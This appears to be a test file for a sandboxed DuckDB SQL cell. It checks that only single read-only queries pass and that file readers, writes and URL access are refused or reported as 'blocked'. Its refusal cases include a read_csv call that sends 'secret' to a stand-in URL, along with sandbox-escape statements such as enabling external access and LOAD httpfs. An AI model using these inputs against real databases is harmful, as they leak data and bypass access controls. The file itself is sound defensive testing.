// What a SQL cell sends to the database: one statement that reads, never a file reader; and how
// DuckDB's refusals read to the user ("blocked"), against a real locked-down DuckDB.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openNodeDatabase, type NodeDatabase } from '../../../src/cli/node-db';
import { lockdownSql } from '../../../src/lib/sql/lockdown';
import {
  classifyFailure,
  errorMessage,
  fileReader,
  prepareUserQuery,
  QUERY_CANCELLED,
} from '../../../src/lib/sql/user-query';

describe('a query before it is sent', () => {
  it.each([
    ['SELECT * FROM orders', 'SELECT * FROM orders'],
    ['  with t AS (SELECT 1) SELECT * FROM t;  ', 'with t AS (SELECT 1) SELECT * FROM t'],
    ["SELECT 'read_csv(x)' AS text", "SELECT 'read_csv(x)' AS text"],
    ['SELECT 1 -- read_csv(\n', 'SELECT 1'],
    ['SELECT * FROM customers_read_csv(1)', 'SELECT * FROM customers_read_csv(1)'],
  ])('sends %j as %j', (sql, sent) => {
    expect(prepareUserQuery(sql)).toEqual({ ok: true, sql: sent });
  });

  it.each([
    ['DROP TABLE orders', { kind: 'write', word: 'DROP' }],
    ["COPY orders TO 'x.csv'", { kind: 'write', word: 'COPY' }],
    ["ATTACH 'x.db'", { kind: 'write', word: 'ATTACH' }],
    ['LOAD httpfs', { kind: 'write', word: 'LOAD' }],
    ['SET enable_external_access = true', { kind: 'write', word: 'SET' }],
    ['SELECT 1; SELECT 2', { kind: 'many' }],
    ['  -- nothing\n', { kind: 'empty' }],
    ["SELECT * FROM read_csv('http://x/?d=' || 'secret')", { kind: 'outside', word: 'read_csv' }],
    ["FROM READ_PARQUET ('x.parquet')", { kind: 'outside', word: 'read_parquet' }],
    ['SELECT * FROM "glob"(\'*\')', { kind: 'outside', word: 'glob' }],
  ])('refuses %j', (sql, refusal) => {
    expect(prepareUserQuery(sql)).toEqual({ ok: false, ...refusal });
  });

  it('finds a file reader however it is spelled, and not inside text', () => {
    expect(fileReader("select * from read_text('a')")).toBe('read_text');
    expect(fileReader("select 'glob(' /* read_csv( */")).toBeNull();
  });
});

describe('how a failed query reads', () => {
  const dir = mkdtempSync(join(tmpdir(), 'regulars-userq-'));
  const own = join(dir, 'input.csv');
  let db: NodeDatabase;
  beforeAll(async () => {
    writeFileSync(own, 'a\n1\n');
    db = await openNodeDatabase();
    for (const sql of lockdownSql([own])) await db.exec(sql);
  });
  afterAll(() => db.close());

  const failure = async (sql: string) => {
    try {
      await db.query(sql);
    } catch (e) {
      return { kind: classifyFailure(errorMessage(e)), message: errorMessage(e) };
    }
    throw new Error(`${sql} did not fail`);
  };

  it('calls a URL or another file the locked database refuses "blocked"', async () => {
    expect((await failure("SELECT * FROM 'http://127.0.0.1:9/x.csv'")).kind).toBe('blocked');
    expect((await failure(`SELECT * FROM '${join(dir, 'other.csv')}'`)).kind).toBe('blocked');
  });

  it('keeps an ordinary mistake as DuckDB wrote it, with the line and position', async () => {
    const { kind, message } = await failure('SELECT nope FROM range(3)');
    expect(kind).toBe('error');
    expect(message).toMatch(/nope/);
    expect(message).toMatch(/LINE 1: SELECT nope FROM range\(3\)\n\s+\^/);
  });

  it('knows a cancelled query by its marker', () => {
    expect(classifyFailure(`Error: ${QUERY_CANCELLED}`)).toBe('cancelled');
  });
});
